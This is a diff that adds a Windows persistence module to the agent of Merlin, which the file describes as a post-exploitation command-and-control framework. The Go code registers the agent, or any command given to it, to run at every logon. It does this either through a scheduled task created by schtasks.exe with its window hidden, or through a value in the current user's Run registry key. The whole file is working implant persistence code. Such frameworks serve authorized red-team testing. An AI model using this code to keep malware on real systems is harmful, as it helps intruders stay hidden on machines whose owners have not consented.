@@ -0,0 +1,121 @@
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"bytes"
+	"fmt"
+	"os"
+	"os/exec"
+	"strings"
+	"syscall"
+
+	// Sub Repositories
+	"golang.org/x/sys/windows/registry"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/messages"
+)
+
+// runKey is the current user's registry key whose values are run when the user logs in
+const runKey = `Software\Microsoft\Windows\CurrentVersion\Run`
+
+// persist adds or removes a scheduled task or registry run key persistence mechanism on the agent's host
+func persist(p messages.Persist) (string, error) {
+	command := p.Command
+	if command == "" {
+		var err error
+		if command, err = commandLine(); err != nil {
+			return "", err
+		}
+	}
+	switch p.Method {
+	case "schtask":
+		return persistTask(p.Action, p.Name, command)
+	case "runkey":
+		return persistRunKey(p.Action, p.Name, command)
+	}
+	return "", fmt.Errorf("the %s persistence method is not supported on windows", p.Method)
+}
+
+// commandLine returns the agent's own command line, such as rundll32.exe with its DLL and export, to persist when no
+// command was provided
+func commandLine() (string, error) {
+	exe, err := os.Executable()
+	if err != nil {
+		return "", fmt.Errorf("there was an error getting the agent's executable:\r\n%s", err.Error())
+	}
+	args := []string{syscall.EscapeArg(exe)}
+	for _, arg := range os.Args[1:] {
+		args = append(args, syscall.EscapeArg(arg))
+	}
+	return strings.Join(args, " "), nil
+}
+
+// persistTask creates or deletes a scheduled task that runs the command when the user logs in
+func persistTask(action, name, command string) (string, error) {
+	var args []string
+	switch action {
+	case "add":
+		args = []string{"/Create", "/SC", "ONLOGON", "/TN", name, "/TR", command}
+	case "remove":
+		args = []string{"/Delete", "/F", "/TN", name}
+	default:
+		return "", fmt.Errorf("%s is not a valid persist action", action)
+	}
+	cmd := exec.Command("schtasks.exe", args...) // #nosec G204
+	cmd.SysProcAttr = &syscall.SysProcAttr{HideWindow: true}
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		return "", fmt.Errorf("there was an error running schtasks.exe:\r\n%s %s", err.Error(), bytes.TrimSpace(out))
+	}
+	return string(bytes.TrimSpace(out)), nil
+}
+
+// persistRunKey adds or deletes a value in the current user's Run registry key that runs the command when the user
+// logs in
+func persistRunKey(action, name, command string) (string, error) {
+	key, err := registry.OpenKey(registry.CURRENT_USER, runKey, registry.QUERY_VALUE|registry.SET_VALUE)
+	if err != nil {
+		return "", fmt.Errorf("there was an error opening the HKCU\\%s registry key:\r\n%s", runKey, err.Error())
+	}
+	defer key.Close()
+	_, _, errValue := key.GetStringValue(name)
+	switch action {
+	case "add":
+		if errValue == nil {
+			return "", fmt.Errorf("the HKCU\\%s registry key already has a value named %s", runKey, name)
+		}
+		if err = key.SetStringValue(name, command); err != nil {
+			return "", fmt.Errorf("there was an error setting the %s registry value:\r\n%s", name, err.Error())
+		}
+		return fmt.Sprintf("Added the %s value to the HKCU\\%s registry key", name, runKey), nil
+	case "remove":
+		if errValue != nil {
+			return "", fmt.Errorf("the HKCU\\%s registry key does not have a value named %s", runKey, name)
+		}
+		if err = key.DeleteValue(name); err != nil {
+			return "", fmt.Errorf("there was an error deleting the %s registry value:\r\n%s", name, err.Error())
+		}
+		return fmt.Sprintf("Deleted the %s value from the HKCU\\%s registry key", name, runKey), nil
+	}
+	return "", fmt.Errorf("%s is not a valid persist action", action)
+}